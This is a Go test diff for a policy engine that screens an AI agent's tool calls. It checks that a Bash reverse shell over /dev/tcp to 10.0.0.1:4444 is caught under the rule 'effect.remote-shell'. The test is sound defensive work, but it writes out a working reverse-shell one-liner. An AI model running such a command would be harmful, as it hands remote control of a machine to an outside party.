@@ -77,3 +77,12 @@ func TestDefaultPolicyJudgesActions(t *testing.T) {
 		assert.NoError(t, e.Check(ctx, op), "%s %s", op.Name, op.Input)
 	}
 }
+
+// A reverse shell over bash's /dev/tcp is reported as what it is, not as
+// a write to a disk: the reason is what the model reads.
+func TestReverseShellIsNamed(t *testing.T) {
+	t.Parallel()
+	b, _ := json.Marshal(map[string]string{"command": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"})
+	err := policy.DefaultEngine().Check(context.Background(), middleware.ToolCall("Bash", b))
+	assert.Equal(t, "effect.remote-shell", ruleOf(err))
+}
